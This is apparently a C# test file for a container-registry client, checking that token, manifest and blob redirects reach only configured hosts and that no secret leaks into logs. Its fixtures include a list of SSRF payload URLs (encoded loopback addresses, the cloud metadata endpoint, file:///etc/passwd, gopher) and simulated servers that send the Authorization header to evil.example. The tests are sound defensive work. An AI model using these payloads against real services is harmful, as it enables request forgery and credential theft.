using System.Net;
using System.Net.Sockets;
using Microsoft.AspNetCore.Http;
using Traceboard.Simulation.Registry;
using Traceboard.Sources;
using Traceboard.Sources.Registries;
using Traceboard.Tests.Fakes;

namespace Traceboard.Tests.Sources.Registries;

/// <summary>Where a registry may lead: nowhere that the configuration does not name, and nowhere with a credential but to itself.</summary>
public sealed class RegistryEgressTests
{
    private static readonly string[] Elsewhere =
    [
        "http://127.0.0.1:{other}/", "http://127.0.0.2:{other}/", "http://localhost:{other}/", "http://[::1]:{other}/", "http://2130706433:{other}/", "http://0x7f.1:{other}/",
        "http://017700000001:{other}/", "https://127.0.0.1:{own}/", "http://reader:x@127.0.0.1:{own}/", "http://127.0.0.1:{own}@127.0.0.1:{other}/", "//127.0.0.1:{other}/",
        "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://kubernetes.default.svc/", "https://10.0.0.1/", "http://127.1:{other}/",
        "http://0.0.0.0:{other}/", "http://[::ffff:127.0.0.1]:{other}/", "file:///etc/passwd", "ftp://127.0.0.1:{other}/", "gopher://127.0.0.1:{other}/", "http:///", "javascript:alert(1)",
        "http://127.0.0.1:{other}\\@127.0.0.1:{own}/", "http://registry.example.com/", "https://registry.example.com.evil.example/",
    ];

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    public static TheoryData<string> Places => [.. Elsewhere];

    [Theory]
    [MemberData(nameof(Places))]
    public async Task A_token_is_fetched_from_nowhere_else(string place)
    {
        using var trap = new Trap();
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true);
        world.Server.Realm = trap.Fill(place, world) + "token";

        var failed = Assert.IsType<RegistryAnswer.Failed>(await world.ReadAsync(RegistryStore.DigestOf([])));

        AssertNothingLeft(world, trap, failed.Detail);
    }

    [Theory]
    [MemberData(nameof(Places))]
    public async Task A_manifest_is_followed_nowhere_else(string place)
    {
        using var trap = new Trap();
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true);
        var digest = world.PushLabelled("abc");
        world.Server.Script = context => RedirectAsync(context, "/manifests/", trap.Fill(place, world));

        AssertNothingLeft(world, trap, Assert.IsType<RegistryAnswer.Failed>(await world.ReadAsync(digest)).Detail);
    }

    [Theory]
    [MemberData(nameof(Places))]
    public async Task A_blob_is_followed_nowhere_else(string place)
    {
        using var trap = new Trap();
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true);
        var digest = world.PushLabelled("abc");
        world.Server.Script = context => RedirectAsync(context, "/blobs/", trap.Fill(place, world));

        AssertNothingLeft(world, trap, Assert.IsType<RegistryAnswer.Failed>(await world.ReadAsync(digest)).Detail);
    }

    [Theory]
    [InlineData("/token")]
    [InlineData("http://127.0.0.1:{other}/")]
    public async Task A_token_service_that_redirects_is_not_followed(string place)
    {
        using var trap = new Trap();
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true);
        world.Server.Script = context => RedirectAsync(context, "/token", trap.Fill(place, world));

        Assert.Contains("redirects", Assert.IsType<RegistryAnswer.Failed>(await world.ReadAsync(RegistryStore.DigestOf([]))).Detail);
        Assert.Equal(0, trap.Connections);
        Assert.Equal(2, world.Server.Requests.Count);
    }

    [Fact]
    public async Task Blobs_come_from_the_configured_storage_without_any_credential()
    {
        await using var storage = await SimulatedRegistry.StartAsync(Stop);
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true, (settings, server) =>
        {
            settings["Registries:0:BlobHosts:0"] = storage.Address.Authority;
            server.Storage = storage.Address;
        });
        var digest = world.PushLabelled("abc");
        storage.Store.Push(RegistryWorld.Repository, null, RegistryWorld.Labelled("abc"));

        Assert.Equal("abc", (await world.FindAsync(digest)).Platforms.Single().Claims.Single().Value);

        var request = Assert.Single(storage.Requests);
        Assert.Equal(("GET", ""), (request.Method, request.Authorization));
        Assert.DoesNotContain(world.Logs, log => log.Message.Contains("signature"));
    }

    [Fact]
    public async Task Storage_that_leads_back_gets_no_token_sent_for_it()
    {
        await using var storage = await SimulatedRegistry.StartAsync(Stop);
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true, (settings, server) =>
        {
            settings["Registries:0:BlobHosts:0"] = storage.Address.Authority;
            server.Storage = storage.Address;
        });
        var digest = world.PushLabelled("abc");
        storage.Script = context => RedirectAsync(context, "/", new Uri(world.Server.Address, "/v2/shop/secret/blobs/x").AbsoluteUri);

        await world.ReadAsync(digest);

        Assert.All(world.Server.Requests.Where(request => request.Target.Contains("secret")), request => Assert.Equal("", request.Authorization));
    }

    [Fact]
    public async Task Storage_that_answers_with_other_bytes_is_not_believed()
    {
        await using var storage = await SimulatedRegistry.StartAsync(Stop);
        await using var world = await RegistryWorld.StartAsync(configure: (settings, server) =>
        {
            settings["Registries:0:BlobHosts:0"] = storage.Address.Authority;
            server.Storage = storage.Address;
        });
        storage.Script = async context =>
        {
            await context.Response.WriteAsync("""{"config":{"Labels":{"org.opencontainers.image.revision":"evil"}}}""");
            return true;
        };

        Assert.Contains("other bytes", Assert.IsType<RegistryAnswer.Failed>(await world.ReadAsync(world.PushLabelled("abc"))).Detail);
    }

    [Fact]
    public async Task A_configured_token_service_gets_the_user_and_the_registry_does_not()
    {
        await using var service = await SimulatedRegistry.StartAsync(Stop);
        service.IsPublic = true;
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true, (settings, server) =>
        {
            settings["Registries:0:TokenService"] = service.Address.GetLeftPart(UriPartial.Authority);
            server.Realm = new Uri(service.Address, "/token?account=x").AbsoluteUri;
        });

        await world.ReadAsync(RegistryStore.DigestOf([]));

        Assert.Contains(service.Requests, request => request.Authorization.StartsWith("Basic ", StringComparison.Ordinal) && request.Target.Contains("account=x&service=simulated"));
        Assert.DoesNotContain(world.Server.Requests, request => request.Authorization.StartsWith("Basic ", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Redirects_within_the_registry_are_followed_and_those_in_a_circle_end()
    {
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Basic, user: true);
        var digest = world.PushLabelled("abc");
        world.Server.Script = context => RedirectAsync(context, "/v2/old/", context.Request.Path.Value!.Replace("/old/", "/shop/"));
        var image = RegistryWorld.Image($"{RegistryWorld.Host}/old/cart:1.0.0");
        Assert.IsType<RegistryAnswer.Image>(await world.Registry.ReadAsync(image, digest, Stop));

        world.Server.Forget();
        world.Server.Script = context => RedirectAsync(context, "/v2/", context.Request.Path);
        Assert.Contains("3 times", Assert.IsType<RegistryAnswer.Failed>(await world.HeadAsync()).Detail);
        Assert.Equal(4, world.Server.Requests.Count);
    }

    [Fact]
    public async Task No_secret_is_in_any_log_answer_check_or_state()
    {
        await using var world = await RegistryWorld.StartAsync(RegistryDoor.Bearer, user: true);
        var told = new List<string>();
        var basic = Convert.ToBase64String("reader:simulated-password"u8);
        foreach (var fault in new[] { "none", "echo401", "echo403", "echo404", "echo429", "echo500", "redirect", "realm", "token", "tokenhtml" })
        {
            world.Server.Script = async context =>
            {
                switch (fault)
                {
                    case "redirect":
                        return await RedirectAsync(context, "/v2/", $"https://evil.example/?{context.Request.Headers.Authorization}");
                    case "realm":
                        (context.Response.StatusCode, context.Response.Headers.WWWAuthenticate) = (401, $"Bearer realm=\"https://evil.example/{context.Request.Headers.Authorization}\"");
                        return true;
                    case "token" or "tokenhtml" when context.Request.Path == "/token":
                        await context.Response.WriteAsync(fault is "token" ? $$"""{"token":"a b {{context.Request.Headers.Authorization}}"}""" : $"<html>{context.Request.Headers.Authorization}");
                        return true;
                    case var _ when fault.StartsWith("echo", StringComparison.Ordinal) && context.Request.Path != "/token":
                        context.Response.StatusCode = int.Parse(fault[4..]);
                        context.Response.Headers["X-Echo"] = context.Request.Headers.Authorization;
                        await context.Response.WriteAsync($"no: {context.Request.Headers.Authorization}");
                        return true;
                    default:
                        return false;
                }
            };
            var digest = world.PushLabelled(fault);
            told.Add((await world.ReadAsync(digest)).ToString());
            told.Add((await world.HeadAsync(fault)).ToString());
            told.Add(string.Join('\n', await world.Checks.RunAsync(Stop)));
            told.Add(world.Registry.State.ToString());
            world.Time.Advance(TimeSpan.FromHours(2));
        }

        Assert.Contains(world.Server.Requests, request => request.Authorization == $"Basic {basic}");
        Assert.NotEmpty(world.Logs);
        told.AddRange(world.Logs.Select(log => $"{log.Message} {string.Join(' ', log.Scopes)} {string.Join(' ', log.StructuredState ?? [])} {log.Exception}"));
        Assert.All(told, text => Assert.All(["simulated-password", basic, "simulated-token-"], secret => Assert.DoesNotContain(secret, text)));
        Assert.DoesNotContain(basic, new RegistryRequest(HttpMethod.Get, world.Server.Address) { Authorization = new("Basic", basic) }.ToString());
    }

    [Theory]
    [InlineData("registry.example.com", "10.1.2.3", true)]
    [InlineData("registry.example.com", "8.8.8.8", true)]
    [InlineData("registry.example.com", "127.0.0.1", false)]
    [InlineData("registry.example.com", "::1", false)]
    [InlineData("registry.example.com", "::ffff:127.0.0.1", false)]
    [InlineData("registry.example.com", "169.254.169.254", false)]
    [InlineData("registry.example.com", "::ffff:169.254.169.254", false)]
    [InlineData("registry.example.com", "fd00:ec2::254", false)]
    [InlineData("registry.example.com", "fe80::1", false)]
    [InlineData("registry.example.com", "0.0.0.0", false)]
    [InlineData("registry.example.com", "224.0.0.1", false)]
    [InlineData("registry.example.com", "100.100.100.200", false)]
    [InlineData("auth.example.com", "192.168.1.1", true)]
    [InlineData("blobs.example.com", "172.16.0.1", true)]
    [InlineData("any.cdn.example.com", "93.184.216.34", true)]
    [InlineData("any.cdn.example.com", "10.0.0.1", false)]
    [InlineData("any.cdn.example.com", "fc00::1", false)]
    public void A_name_is_believed_only_as_far_as_its_address_is_fit(string host, string address, bool fit)
    {
        var registry = RegistryAddress.Of(
            new RegistryOptions { Host = "registry.example.com", TokenService = "https://auth.example.com", BlobHosts = ["blobs.example.com", "*.cdn.example.com"] }, "key");

        Assert.Equal(fit, new AddressGuard(registry, (_, _) => Task.FromResult<IPAddress[]>([])).IsFit(host, IPAddress.Parse(address)));
    }

    [Theory]
    [InlineData("docker.io", "https://registry-1.docker.io/v2/", "https://auth.docker.io/token", "https://production.cloudflare.docker.com/x")]
    [InlineData("index.docker.io", "https://registry-1.docker.io/v2/", "https://auth.docker.io/token", "https://production.cloudfront.docker.com/x")]
    [InlineData("ghcr.io", "https://ghcr.io/v2/", "https://ghcr.io/token", "https://pkg-containers.githubusercontent.com/x")]
    [InlineData("registry.gitlab.com", "https://registry.gitlab.com/v2/", "https://gitlab.com/jwt/auth", "https://cdn.registry.gitlab-static.net/x")]
    [InlineData("harbor.example.com", "https://harbor.example.com/v2/", "https://harbor.example.com/service/token", null)]
    [InlineData("localhost:5000", "http://localhost:5000/v2/", "http://localhost:5000/token", null)]
    public void What_is_well_known_of_a_registry_need_not_be_configured(string host, string api, string realm, string? blob)
    {
        var address = RegistryAddress.Of(new RegistryOptions { Host = host }, "key");

        Assert.Equal(api, address.Api.AbsoluteUri);
        Assert.True(address.MayIssueTokens(new Uri(realm)));
        Assert.False(address.MayIssueTokens(new Uri("https://evil.example/token")));
        Assert.False(address.MayHoldBlobs(new Uri("https://evil.example/x")));
        Assert.False(address.MayHoldBlobs(new Uri("https://evil.example/production.cloudflare.docker.com")));
        if (blob is not null)
            Assert.True(address.MayHoldBlobs(new Uri(blob)) && !address.MayHoldBlobs(new Uri(blob.Replace("https", "http"))) && !address.MayIssueTokens(new Uri(blob)));
    }

    private static void AssertNothingLeft(RegistryWorld world, Trap trap, string detail)
    {
        Assert.DoesNotContain("Cannot be reached", detail);
        Assert.Equal(0, trap.Connections);
        Assert.DoesNotContain(world.Server.Requests, request => request.Target.Contains("evil", StringComparison.Ordinal));
        Assert.InRange(world.Server.Requests.Count, 1, 5);
    }

    private static Task<bool> RedirectAsync(HttpContext context, string pathPart, string target)
    {
        // Nobody is led anywhere before they are let in.
        if (!context.Request.Path.Value!.Contains(pathPart) || (pathPart is "/manifests/" or "/blobs/" && context.Request.Headers.Authorization.Count == 0))
            return Task.FromResult(false);
        context.Response.StatusCode = 307;
        context.Response.Headers.Location = target;
        return Task.FromResult(true);
    }

    /// <summary>A port that nobody has any business with.</summary>
    private sealed class Trap : IDisposable
    {
        private readonly TcpListener _four = new(IPAddress.Loopback, 0);

        public Trap() => _four.Start();

        public int Connections => _four.Pending() ? 1 : 0;

        public string Fill(string place, RegistryWorld world) => place
            .Replace("{other}", $"{((IPEndPoint)_four.LocalEndpoint).Port}", StringComparison.Ordinal)
            .Replace("{own}", $"{world.Server.Address.Port}", StringComparison.Ordinal);

        public void Dispose() => _four.Dispose();
    }
}
